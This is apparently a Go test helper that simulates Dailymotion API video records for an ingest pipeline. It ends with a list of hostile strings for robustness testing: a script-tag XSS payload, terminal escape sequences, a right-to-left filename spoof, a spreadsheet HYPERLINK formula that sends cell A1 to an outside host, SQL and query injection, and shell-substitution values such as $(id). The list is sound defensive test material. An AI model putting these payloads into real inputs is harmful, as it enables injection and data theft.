package dailymotionsim

import (
	"strconv"
	"strings"
	"time"

	"github.com/trendvidstream/ingest/internal/standin"
)

// fieldNames are the stand-in's fields, under the API's names.
var fieldNames = []string{
	"id", "title", "owner", "owner.id", "owner.screenname", "channel", "country", "language",
	"created_time", "duration", "mode",
	"onair", "tags", "description", "views_total", "likes_total", "thumbnail_720_url", "thumbnail_360_url", "url",
}

// field returns the value of one of fieldNames at a given time. Counts grow by the hour; some are withheld.
func (v *video) field(name string, at time.Time) any {
	switch name {
	case "id":
		return v.id
	case "title":
		return v.title
	case "owner", "owner.id":
		return v.ownerID
	case "owner.screenname":
		return v.owner
	case "channel":
		return v.channel
	case "country":
		return strings.ToUpper(v.country)
	case "language":
		return v.language
	case "created_time":
		return v.created
	case "duration":
		return v.seconds
	case "mode":
		return v.mode
	case "onair":
		return v.mode == "live"
	case "tags":
		return v.tags
	case "description":
		return v.title + "\n<b>" + v.owner + "</b>"
	case "views_total":
		return v.counted("views", 40, 5000, at)
	case "likes_total":
		return v.counted("likes", 25, 100, at)
	case "url":
		return "https://www.dailymotion.com/video/" + v.id
	}
	height, _ := strings.CutPrefix(name, "thumbnail_")
	height, _ = strings.CutSuffix(height, "_url")
	if n, err := strconv.Atoi(height); err != nil || n == 720 && v.key%5 == 0 {
		return nil // not every video has the largest size
	}
	return "https://s1.example.com/v/" + v.id + "/x" + height
}

// counted returns a count at a given time, or null for one in every withheld videos. A count grows by less than scale
// an hour.
func (v *video) counted(what string, withheld, scale uint64, at time.Time) any {
	key := standin.Hash(v.key, standin.HashText(what))
	if key%withheld == 0 {
		return nil
	}
	perHour := standin.Hash(key) % scale
	hours := (at.Unix() - v.created) / 3600
	return int64(perHour) * max(hours, 0)
}

// hostile holds texts that break a program which prints, stores or exports them carelessly.
var hostile = []string{
	`<script>alert("Ravenwood")</script> live`,
	"\x1b[31mred\x1b[0m and \x1b[2J\x1b[H gone",
	"\x1b]0;new window title\x07 \u009b31mC1",
	"Holiday photos \u202Egnp.exe",
	`=HYPERLINK("https://example.com/?"&A1,"prize")`,
	"NUL\u0000byte in the middle",
	strings.Repeat("long title ", 454) + "ended.",
	"'; DROP TABLE videos; --",
	`title:"unclosed AND ( OR * NEAR/0 ^`,
	"line one\nline two\r\nline three\u2028line four",
	"{{.Secret}} ${HOME} $(id) `id` %s%n %00",
	"Z\u0351\u036b\u0343a\u0363\u0328l\u034eg\u0321o\u0489 \ufeff\u200b\u2060",
	"👩‍👩‍👧‍👦🏳️‍🌈🇩🇪" + strings.Repeat("🔥", 60),
	"हिन्दी में वीडियो, தமிழ் பாடல், 東京タワー",
}
